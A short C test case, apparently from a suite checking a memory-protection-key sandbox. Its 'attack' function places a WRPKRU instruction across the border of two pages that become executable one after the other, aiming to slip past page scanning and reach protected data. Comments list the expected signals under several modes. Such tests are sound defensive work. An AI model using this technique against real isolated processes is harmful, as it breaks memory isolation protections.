/* WRPKRU across the border of two pages that become executable one after the other. */
/* none: succeeded */
/* no keys: SIGILL */
/* pkey: SIGSEGV */
/* process: SIGILL | succeeded */
#include "code.h"

static int attack(void)
{
	unsigned char *p = memory(2 * PAGE, PROT_READ | PROT_WRITE);
	unsigned char *at = p + PAGE - WRPKRU - 1;
	memcpy(at, OPEN, sizeof OPEN);
	p[0] = p[PAGE + 64] = 0xc3;
	if (mprotect(p, PAGE, PROT_READ | PROT_EXEC))
		return errno;
	((code *)p)();
	if (mprotect(p + PAGE, PAGE, PROT_READ | PROT_EXEC))
		return errno;
	((code *)at)();
	return loot();
}
